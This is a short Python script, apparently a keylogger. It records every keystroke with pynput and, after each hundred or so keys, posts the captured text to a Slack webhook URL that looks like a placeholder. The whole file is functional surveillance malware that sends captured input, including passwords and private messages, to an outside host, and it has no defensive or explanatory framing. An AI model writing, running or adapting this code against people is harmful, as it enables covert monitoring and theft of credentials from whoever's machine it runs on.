import requests
from pynput.keyboard import Listener

log = []

def on_press(key):
    log.append(str(key))
    if len(log) > 100:
        requests.post("https://hooks.slack.com/services/T000/B000/XXXX", data="".join(log))
        log.clear()

with Listener(on_press=on_press) as l:
    l.join()
